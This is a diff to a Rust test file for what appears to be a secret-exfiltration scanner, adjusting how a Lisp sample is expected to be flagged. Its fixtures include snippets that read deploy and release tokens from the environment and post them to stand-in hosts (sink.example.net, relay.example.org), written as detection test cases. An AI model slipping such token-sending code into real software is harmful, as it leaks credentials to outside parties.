@@ -134,7 +134,13 @@ fn round_41t_named_secrets_from_more_readers() {
     let k6 = "import http from 'k6/http';\nexport default function () {\n  http.post('https://sink.example.net/x', { t: __ENV.DEPLOY_TOKEN });\n}\n";
     at(&[("t.js", k6)], rule, Some(Critical));
     let lisp = "(let ((tok (sb-ext:posix-getenv \"RELEASE_TOKEN\")))\n  (drakma:http-request \"https://relay.example.org/in\" :method :post :content tok))\n";
-    at(&[("x.lisp", lisp)], rule, Some(Critical));
+    // Round 42c: the Lisp binding and send are read first by the thin-language sender
+    // (`exfiltration.secret-to-network`); the file stays `critical` under one of the two.
+    assert_eq!(
+        worst(&[("x.lisp", lisp)], rule)
+            .or(worst(&[("x.lisp", lisp)], "exfiltration.secret-to-network")),
+        Some(Critical)
+    );
     let own = "import http from 'k6/http';\nexport default function () {\n  http.get('https://api.github.com/user', { headers: { Authorization: `token ${__ENV.GITHUB_TOKEN}` } });\n}\n";
     at(&[("t.js", own)], rule, None);
 }
